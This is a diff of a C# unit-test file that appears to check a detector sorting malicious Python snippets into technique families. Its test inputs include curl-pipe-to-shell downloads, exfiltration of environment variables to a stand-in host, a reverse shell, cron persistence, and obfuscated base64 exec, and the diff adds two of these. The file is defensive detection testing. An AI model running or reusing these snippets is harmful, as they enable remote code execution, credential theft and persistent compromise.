@@ -76,6 +76,8 @@ public sealed class TechniqueFamilyTests
     [InlineData("import ctypes\nctypes.CDLL('libc.so.6').system(b'curl -s http://x.invalid/a | sh')\n", "download-execute")]
     [InlineData("import subprocess, os, json\nsubprocess.run(['curl', '-d', json.dumps(dict(os.environ)), 'http://x.invalid/e'])\n", "credential-exfiltration")]
     [InlineData("import socket, subprocess\ns = socket.create_connection(('192.0.2.1', 4444))\nsubprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n", "reverse-shell")]
+    [InlineData("import os, threading\nthreading.Thread(target=os.system, args=('curl -s http://x.invalid/a | sh',)).start()\n", "install-time-execution")]
+    [InlineData("import atexit, subprocess, base64\natexit.register(subprocess.call, base64.b64decode('Y3VybCB4fHNo').decode(), shell=True)\n", "obfuscated-exec")]
     [InlineData("import yaml\nyaml.load('!!python/object/apply:os.system [\"id\"]', Loader=yaml.Loader)\n", "obfuscated-exec")]
     [InlineData("from crontab import CronTab\ncron = CronTab(user=True)\ncron.new(command='curl -s http://x.invalid/c | sh').minute.every(5)\ncron.write()\n", "persistence")]
     [InlineData("import os, site\nwith open(os.path.join(site.getsitepackages()[0], 'zz_init.pth'), 'w') as f:\n    f.write('import os; os.system(\"id\")\\n')\n", "pth-autoexec")]
